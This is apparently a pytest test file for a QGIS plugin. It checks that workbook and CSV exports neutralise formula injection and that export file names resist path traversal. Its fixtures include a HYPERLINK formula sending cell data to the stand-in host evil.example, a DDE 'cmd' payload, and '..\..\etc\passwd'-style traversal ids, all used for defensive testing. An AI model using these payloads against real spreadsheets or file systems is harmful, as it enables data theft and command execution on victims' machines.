"""Safe exports: text that would be a formula (=, +, -, @) is written as literal text in every
workbook and CSV; file names made from project ids stay inside the chosen folder."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from qgis.core import QgsProcessingFeedback

from tests.checks.helpers import dltb, projects, rect_wkt
from tests.stats.helpers import dltb_layer, memory_layer, regions_layer

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


@pytest.fixture
def ready(qgis_processing, provider_registered):
    return True


def _cells(path: Path) -> list:
    book = load_workbook(path)  # formulas stay formulas: data_type "f"
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def _assert_literal(cells, texts) -> None:
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    values = [str(c.value) for c in cells]
    for text in texts:
        assert any(v.startswith("'" + text) for v in values), (text, values[:40])
        assert not any(v.startswith(text) for v in values), text


def _check_inputs():
    ids = [EVIL, *OTHERS]
    parcels = projects([(pid, rect_wkt(i * 200, 0, i * 200 + 100, 100), {})
                        for i, pid in enumerate(ids)])
    survey = dltb([(rect_wkt(-10, -10, 1000, 110), "0404", 0.0)])
    return ids, {"PROJECTS": parcels, "DLTB": survey}


def test_checkfarmland_workbook_and_csv_hold_project_ids_as_text(ready, tmp_path):
    import processing

    ids, inputs = _check_inputs()
    workbook, table = tmp_path / "report.xlsx", tmp_path / "projects.csv"
    processing.run("sgnr:checkfarmland", {
        **inputs, "OUTPUT_FINDINGS": "memory:", "OUTPUT_PROJECTS": str(table),
        "OUTPUT_XLSX": str(workbook)}, feedback=QgsProcessingFeedback())
    _assert_literal(_cells(workbook), ids)
    with open(table, newline="", encoding="utf-8") as handle:
        column = [row["project_id"] for row in csv.DictReader(handle)]
    assert sorted(column) == sorted("'" + pid for pid in ids)


def test_checkfarmland_geopackage_keeps_ids_unchanged(ready, tmp_path):
    """The guard is for spreadsheets only: a GeoPackage keeps the data as it is."""
    import processing

    ids, inputs = _check_inputs()
    result = processing.run("sgnr:checkfarmland", {
        **inputs, "OUTPUT_FINDINGS": "memory:",
        "OUTPUT_PROJECTS": str(tmp_path / "projects.gpkg")}, feedback=QgsProcessingFeedback())
    from qgis.core import QgsVectorLayer

    layer = QgsVectorLayer(result["OUTPUT_PROJECTS"], "p", "ogr")
    assert sorted(f["project_id"] for f in layer.getFeatures()) == sorted(ids)


def test_statistics_workbook_and_csv_hold_region_names_as_text(ready, tmp_path):
    import processing

    regions = regions_layer()
    names = [EVIL, OTHERS[0]]
    renamed = memory_layer("regions", "name:string", [
        (f.geometry().asWkt(), [name]) for f, name in zip(regions.getFeatures(), names)])
    workbook, table = tmp_path / "landuse.xlsx", tmp_path / "landuse.csv"
    processing.run("sgnr:landusesummary", {
        "ALLOW_UNRECOGNISED": True,
        "INPUT": dltb_layer(), "REGIONS": renamed, "REGION_FIELD": "name",
        "OUTPUT": str(table), "OUTPUT_XLSX": str(workbook)}, feedback=QgsProcessingFeedback())
    _assert_literal(_cells(workbook), names)
    text = table.read_text(encoding="utf-8")
    assert "'" + EVIL.replace('"', '""') in text or "'" + EVIL in text
    assert not any(line.startswith("=") for line in text.splitlines())


@pytest.mark.parametrize("project_id, expected", [
    ("../x", "_x.txt"), ("a/b", "a_b.txt"), ("..\\..\\etc\\passwd", None)])
def test_export_file_names_from_project_ids_stay_in_the_folder(ready, tmp_path, project_id,
                                                              expected):
    import processing

    parcels = projects([(project_id, rect_wkt(0, 0, 100, 100), {})])
    folder = tmp_path / "txt"
    feedback = QgsProcessingFeedback()
    result = processing.run("sgnr:exportcoordtxt", {
        "INPUT": parcels, "PROJECT_FIELD": "XMBH", "OUTPUT": str(folder)}, feedback=feedback)
    # the log names the folder the user chose, not the staging one
    assert str(folder) in feedback.textLog() and "sgnr_partial_" not in feedback.textLog()
    written = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*") if p.is_file())
    assert len(written) == 1 and written[0].parent == Path("txt"), written
    name = written[0].name
    assert ".." not in name and "/" not in name and "\\" not in name
    assert name == (expected or name)
    assert [Path(f).name for f in result["FILES"]] == [name]
    assert all(Path(f).parent == folder for f in result["FILES"])
